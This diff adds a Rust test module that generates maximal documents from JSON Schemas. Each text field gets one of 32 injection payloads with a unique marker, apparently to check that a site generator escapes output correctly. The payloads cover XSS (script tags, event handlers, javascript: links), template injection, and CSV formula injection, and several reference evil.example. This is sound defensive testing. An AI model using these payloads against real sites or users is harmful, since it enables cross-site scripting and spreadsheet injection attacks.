@@ -1,0 +1,167 @@
+//! Hostile documents generated from the format's JSON Schemas (`gongkai::record_schema` …):
+//! every free-text string gets a payload carrying a unique marker (`gk0042`), every optional
+//! is present, every list has one element, and every parsed string (one with an `enum`, a
+//! `pattern` or a `format`: amounts, percentages, codes, ids) gets a valid value.
+
+use serde_json::{Map, Value};
+
+/// The hostile texts, rotated over the fields; `{m}` is replaced by the field's marker. They
+/// aim at every context a text can land in: HTML text and attributes, `<title>`, Markdown,
+/// Tera, XML/SVG, the search index's JavaScript, CSV cells and JSON.
+pub(super) const PAYLOADS: [&str; 32] = [
+    "<script>alert('{m}')</script>",
+    "\"><img src=x onerror=alert('{m}')>",
+    "</title><script>alert('{m}')</script>",
+    "javascript:alert('{m}')",
+    "<svg onload=alert('{m}')>",
+    "</textarea><b>{m}</b>",
+    "{{ 7*7 }}{m}",
+    "{% raw %}{m}{% endraw %}",
+    "]]>{m}<![CDATA[",
+    "<!--{m}",
+    "'{m}' onmouseover='alert(1)'",
+    "\"{m}\" onfocus=\"alert(1)\" autofocus=\"",
+    "&lt;script&gt;{m}&lt;/script&gt;",
+    "=HYPERLINK(\"http://evil.example/?{m}\",\"点击\")",
+    "\u{202e}{m}\u{202d}",
+    "\u{7}\u{8}\u{b}\u{c}\u{1b}{m}\u{7f}\u{85}",
+    "</script><script>alert('{m}')</script>",
+    "\u{2028}{m}\u{2029}",
+    "+{m}+1",
+    "-{m}-1",
+    "@SUM({m})",
+    "\t={m}",
+    "{m}\\",
+    "`${alert('{m}')}`",
+    "<a href=\"javascript:alert('{m}')\">{m}</a>",
+    "[点我](javascript:alert('{m}')) ![x](javascript:alert('{m}'))",
+    "<iframe src=//evil.example/{m}></iframe>",
+    "<style>*{display:none}</style>{m}",
+    "<base href=//evil.example/>{m}",
+    "<math><mi xlink:href=\"javascript:alert('{m}')\">x</mi></math>",
+    "%3Cscript%3E{m}\r\n=1+1",
+    "长",
+];
+
+/// Index of the long payload: its text is repeated so lines, cells and labels overflow.
+const LONG: usize = 31;
+
+/// Every field that was given a payload: `fields[n]` carries the marker `gk{n:04}`.
+#[derive(Default)]
+pub(super) struct Sweep {
+    pub(super) fields: Vec<String>,
+}
+
+impl Sweep {
+    /// The marker of field `n`.
+    pub(super) fn marker(n: usize) -> String {
+        format!("gk{n:04}")
+    }
+
+    /// A new payload for the field at `path`.
+    pub(super) fn payload(&mut self, path: String) -> String {
+        let n = self.fields.len();
+        self.fields.push(path);
+        let m = Sweep::marker(n);
+        let p = n % PAYLOADS.len();
+        if p == LONG {
+            format!("{m}{}", PAYLOADS[LONG].repeat(3000))
+        } else {
+            PAYLOADS[p].replace("{m}", &m)
+        }
+    }
+
+    /// A maximal instance of `schema` (a whole schema document with its `$defs`), its fields
+    /// named `<file>:<path>`.
+    pub(super) fn instance(&mut self, file: &str, schema: &Value) -> Value {
+        self.node(schema, schema, format!("{file}:"))
+    }
+
+    fn node(&mut self, root: &Value, schema: &Value, path: String) -> Value {
+        if let Some(r) = schema.get("$ref").and_then(Value::as_str) {
+            let name = r.strip_prefix("#/$defs/").expect("a local $ref");
+            return self.node(root, &root["$defs"][name], path);
+        }
+        if let Some(alts) = schema.get("anyOf").and_then(Value::as_array) {
+            let alt = alts
+                .iter()
+                .find(|a| a.get("type") != Some(&Value::from("null")))
+                .expect("a non-null alternative");
+            return self.node(root, alt, path);
+        }
+        let types: Vec<&str> = match schema.get("type") {
+            Some(Value::String(t)) => vec![t.as_str()],
+            Some(Value::Array(ts)) => ts.iter().filter_map(Value::as_str).collect(),
+            _ => panic!("{path}: a schema without a type: {schema}"),
+        };
+        if types.contains(&"object") {
+            let props = schema["properties"].as_object().expect("properties");
+            let obj: Map<String, Value> = props
+                .iter()
+                .map(|(k, s)| {
+                    let sep = if path.ends_with(':') { "" } else { "." };
+                    (k.clone(), self.node(root, s, format!("{path}{sep}{k}")))
+                })
+                .collect();
+            Value::Object(obj)
+        } else if types.contains(&"array") {
+            Value::Array(vec![self.node(
+                root,
+                &schema["items"],
+                format!("{path}[0]"),
+            )])
+        } else if types.contains(&"string") {
+            if let Some(values) = schema.get("enum").and_then(Value::as_array) {
+                let value = values.iter().find(|v| !v.is_null()).expect("an enum value");
+                return value.clone();
+            }
+            let parsed = ["pattern", "format", "const"]
+                .iter()
+                .any(|k| schema.get(k).is_some());
+            if parsed {
+                // A parsed string must say what a valid value looks like, or the sweep could
+                // only feed it payloads and the build would fail.
+                let example = schema.get("examples").and_then(|e| e.get(0));
+                return example.cloned().unwrap_or_else(|| {
+                    panic!(
+                        "{path} is parsed (it has a pattern or format) but its schema gives no \
+                         example: add `#[schemars(example = …)]` to it in src/load/raw.rs"
+                    )
+                });
+            }
+            Value::String(self.payload(path))
+        } else if types.contains(&"integer") {
+            schema.get("minimum").cloned().unwrap_or(Value::from(1))
+        } else {
+            panic!("{path}: a type the sweep does not fill: {schema}")
+        }
+    }
+}
+
+/// Narrative Markdown: payloads in a heading, a paragraph, raw HTML, a table and code, and
+/// `javascript:` in a link, an image and a reference link, each with its own marker.
+pub(super) fn narrative(sweep: &mut Sweep, file: &str) -> String {
+    let mut p = |part: &str| sweep.payload(format!("{file}:{part}"));
+    let text = [
+        p("heading"),
+        p("paragraph"),
+        p("raw html"),
+        p("table head"),
+        p("table cell"),
+        p("code"),
+        p("code block"),
+    ];
+    let mut js = |part: &str| {
+        sweep.payload(format!("{file}:{part}"));
+        format!(
+            "javascript:alert('{}')",
+            Sweep::marker(sweep.fields.len() - 1)
+        )
+    };
+    let links = [js("link"), js("image"), js("reference link")];
+    format!(
+        "# {}\n\n{}\n\n<div onclick=\"alert(1)\">{}</div>\n\n| 表头 {} |\n|---|\n| {} |\n\n\
+         `{}`\n\n```\n{}\n```\n\n[链接]({}) ![图]({}) [引用][r]\n\n[r]: {}\n",
+        text[0], text[1], text[2], text[3], text[4], text[5], text[6], links[0], links[1], links[2],
+    )
+}
